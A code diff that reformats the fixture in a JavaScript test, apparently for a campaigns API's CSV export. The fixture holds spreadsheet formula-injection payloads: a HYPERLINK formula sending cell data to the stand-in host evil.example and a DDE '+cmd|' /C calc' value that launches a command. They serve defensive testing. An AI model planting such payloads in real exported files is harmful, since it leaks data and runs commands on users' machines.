@@ -158,7 +158,12 @@ for (const dialect of dialects()) {
         {
           external_id: '=HYPERLINK("http://evil.example/?"&A1,"click")',
           phones: JSON.stringify(["+12125550199"]),
-          custom: JSON.stringify({ "=cmd": "@SUM(1,1)", plus: "+cmd|' /C calc'!A0", minus: "-2+SUM(A1:A9)", n: "-5" }),
+          custom: JSON.stringify({
+            "=cmd": "@SUM(1,1)",
+            plus: "+cmd|' /C calc'!A0",
+            minus: "-2+SUM(A1:A9)",
+            n: "-5",
+          }),
         },
       ]);
       const res = await f.call({ method: "GET", url: `/v1/campaigns/${c.id}/export?format=csv` });
